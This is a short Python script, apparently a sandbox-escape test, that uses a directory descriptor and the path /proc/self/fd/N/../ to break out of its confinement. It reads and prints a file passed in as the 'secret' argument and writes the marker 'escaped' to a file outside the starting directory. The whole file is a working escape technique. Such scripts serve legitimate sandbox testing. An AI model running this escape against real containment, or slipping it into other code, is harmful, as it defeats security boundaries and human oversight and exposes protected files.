"""Escape: /proc/self/fd/N of a directory descriptor, then '..'."""
import os, sys
out, secret = sys.argv[1], sys.argv[2]
fd = os.open(".", os.O_RDONLY)
up = "/proc/self/fd/%d/../" % fd
try:
    print(open(up + "/".join(secret.split("/")[-2:])).read())
finally:
    with open(up + "/".join(out.split("/")[-2:]), "w") as f:
        f.write("escaped")
